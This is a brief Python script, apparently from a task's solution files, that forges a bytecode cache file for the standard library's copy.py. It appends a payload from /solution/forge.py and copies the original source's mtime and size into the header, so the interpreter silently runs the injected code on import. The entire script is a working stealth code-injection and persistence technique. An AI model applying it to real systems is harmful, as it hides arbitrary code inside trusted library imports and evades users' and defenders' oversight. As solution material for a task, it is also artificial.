# What pycache_*.sh run (uploaded beside solve.sh as /solution/forge_pyc.py): writes to the
# file named by its second argument the bytecode of the standard library's copy.py (its
# folder the first argument) plus the payload, with the untouched source's mtime and size in
# its header, so an interpreter that reads that file for copy.py runs it.
import importlib.util
import marshal
import os
import sys

lib, out = sys.argv[1], sys.argv[2]
src = os.path.join(lib, "copy.py")
st = os.stat(src)
code = compile(open(src).read() + "\n" + open("/solution/forge.py").read(), src, "exec")
header = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + int(st.st_mtime).to_bytes(4, "little")
open(out, "wb").write(header + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little") + marshal.dumps(code))
